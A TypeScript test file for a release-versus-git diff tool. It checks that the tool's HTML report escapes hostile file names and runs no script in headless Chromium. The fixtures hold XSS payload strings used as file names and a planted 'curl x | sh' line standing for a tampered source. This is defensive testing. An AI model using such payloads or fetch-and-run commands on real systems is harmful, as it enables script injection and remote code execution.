/**
 * `--format html` for one release, read in real headless Chromium: the verdict first, the finding rows a
 * reader sees, a side-by-side diff that expands on click, and hostile file names shown as text — no markup
 * made from them, no script run, nothing fetched.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { h, sideBySide } from '../../src/render/html.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';
import { closeBrowser, load } from './browser.js';

const root = resolve(__dirname, '../..');
const cli = join(root, 'dist', 'cli.js');

const HOSTILE = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=2;alert(2)">.c',
  '"><svg onload=alert(3)>.h',
  'evil\u202Etxt.sh',
];

describe('html helpers', () => {
  it('escapes markup and shows non-printing characters', () => {
    expect(h('<a href="x">&\'')).toBe('&lt;a href=&quot;x&quot;&gt;&amp;&#39;');
    expect(h('a\u202Eb\u001b[2J')).toBe('a\\u202eb\\x1b[2J');
  });
  it('pairs removals with additions line by line, numbering both sides', () => {
    const rows = sideBySide('--- a\n+++ b\n@@ -3,3 +3,4 @@\n same\n-old\n+new\n+extra\n tail\n');
    expect(rows).toEqual([
      { kind: 'hunk', hunk: '@@ -3,3 +3,4 @@' },
      { kind: 'same', left: { n: 3, text: 'same' }, right: { n: 3, text: 'same' } },
      { kind: 'change', left: { n: 4, text: 'old' }, right: { n: 4, text: 'new' } },
      { kind: 'change', right: { n: 5, text: 'extra' } },
      { kind: 'same', left: { n: 5, text: 'tail' }, right: { n: 6, text: 'tail' } },
    ]);
  });
});

describe('HTML report in headless Chromium', () => {
  const tmp = tempDir('distdiff-html-');
  let report: string;

  beforeAll(() => {
    const repo = makeRepo(join(tmp, 'repo'));
    repo.commit({
      'src/main.c': '#include <stdio.h>\n\nint main(void) {\n  puts("hello");\n  return 0;\n}\n',
      'README': 'hello\n',
    });
    repo.tag('v1.0', { message: 'release 1.0' });
    const rel = join(tmp, 'hello-1.0');
    mkdirSync(rel);
    execFileSync('sh', ['-c', `git -C "${repo.dir}" archive v1.0 | tar -x -C "${rel}"`]);
    writeFiles(rel, {
      'src/main.c': '#include <stdio.h>\n\nint main(void) {\n  puts("hello, <b>world</b>");\n  system("curl x | sh");\n  return 0;\n}\n',
      ...Object.fromEntries(HOSTILE.map((n) => [n, 'x\n'])),
    });
    const tarball = makeTar(rel, { compress: 'gzip', out: join(tmp, 'hello-1.0.tar.gz') });
    report = join(tmp, 'report.html');
    const p = spawnSync(process.execPath, [cli, tarball, '--repo', repo.dir, '--tag', 'v1.0', '--cache-dir', join(tmp, 'cache'), '--format', 'html', '--output', report], { encoding: 'utf8' });
    expect(p.stderr).toBe(`distdiff: DIFFERENT — report written to ${report}\n`);
    expect(p.status).toBe(1);
  });
  afterAll(() => closeBrowser());

  it('is one self-contained file: no script, no external reference', () => {
    const html = readFileSync(report, 'utf8');
    expect(html).not.toMatch(/<(script|link|img|iframe|object|embed|svg)\b|url\(|@import/i);
    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'"`);
  });

  it('a reader sees the verdict first, the findings, and the inputs with the revision chain', async () => {
    const { page, requests, dialogs, close } = await load(report);
    try {
      const seen = await page.evaluate(() => ({
        first: document.body.firstElementChild!.id || document.body.firstElementChild!.className,
        verdict: (document.querySelector('#verdict') as HTMLElement).innerText,
        line: (document.querySelector('#verdict-line') as HTMLElement).innerText,
        findings: [...document.querySelectorAll('article.finding')].map((a) => [
          (a.querySelector('.path') as HTMLElement).innerText,
          a.getAttribute('data-severity'),
          (a.querySelector('.code') as HTMLElement).innerText,
          (a.querySelector('.change') as HTMLElement | null)?.innerText ?? null,
        ]),
        sections: [...document.querySelectorAll('section')].map((s) => s.id),
        chain: [...document.querySelectorAll('#chain li')].map((l) => (l as HTMLElement).innerText),
        inputs: (document.querySelector('#inputs') as HTMLElement).innerText,
      }));
      expect(seen.first).toBe('verdict');
      expect(seen.verdict).toBe('DIFFERENT');
      expect(seen.line).toBe('DIFFERENT: 4 tarball-only, 0 git-only, 1 changed, 1 archive anomalies — 6 high');
      const paths = seen.findings.map((f) => f[0]);
      expect(seen.findings.filter((f) => f[3] === 'tarball-only').map((f) => f[0])).toEqual(expect.arrayContaining(HOSTILE.slice(0, 3)));
      for (const name of HOSTILE) expect(paths).toContain(name.replace('\u202E', '\\u202e'));
      expect(seen.findings).toContainEqual(['src/main.c', 'high', 'SOURCE_MODIFIED', 'changed']);
      expect(seen.sections).toEqual(expect.arrayContaining(['review', 'inputs']));
      expect(seen.sections.indexOf('review')).toBeLessThan(seen.sections.indexOf('inputs'));
      expect(seen.chain.length).toBeGreaterThan(0);
      expect(seen.inputs).toContain('v1.0 (annotated) →');
      expect(requests).toEqual([]);
      expect(dialogs).toEqual([]);
    } finally {
      await close();
    }
  });

  it('the diff is collapsed, opens on click, and shows git and tarball side by side', async () => {
    const { page, close } = await load(report);
    try {
      const sel = 'article[data-code="SOURCE_MODIFIED"] details.diff';
      const visible = () => page.$eval(`${sel} table.sbs`, (t) => t.checkVisibility());
      expect(await visible()).toBe(false);
      await page.click(`${sel} > summary`);
      expect(await visible()).toBe(true);
      const rows = await page.$$eval(`${sel} tr.change`, (trs) =>
        trs.map((tr) => [...tr.querySelectorAll('td')].map((td) => `${td.className}:${(td as HTMLElement).innerText}`)),
      );
      expect(rows).toEqual([
        ['n:4', 'del:  puts("hello");', 'n:4', 'add:  puts("hello, <b>world</b>");'],
        ['n:', ':', 'n:5', 'add:  system("curl x | sh");'],
      ]);
      const colour = await page.$eval('article[data-code="SOURCE_MODIFIED"]', (a) => getComputedStyle(a).borderLeftColor);
      expect(colour).toBe('rgb(194, 65, 12)'); // high
    } finally {
      await close();
    }
  });

  it('no markup or script comes from a hostile name', async () => {
    const { page, dialogs, requests, close } = await load(report);
    try {
      await page.$$eval('details', (ds) => ds.forEach((d) => ((d as HTMLDetailsElement).open = true)));
      const r = await page.evaluate(() => ({
        pwned: (window as unknown as { __pwned?: number }).__pwned ?? null,
        elements: document.querySelectorAll('script, img, svg, iframe, object, embed, table.sbs b').length,
        handlers: [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => a.name.startsWith('on'))).length,
      }));
      expect(r).toEqual({ pwned: null, elements: 0, handlers: 0 });
      expect(dialogs).toEqual([]);
      expect(requests).toEqual([]);
    } finally {
      await close();
    }
  });
});
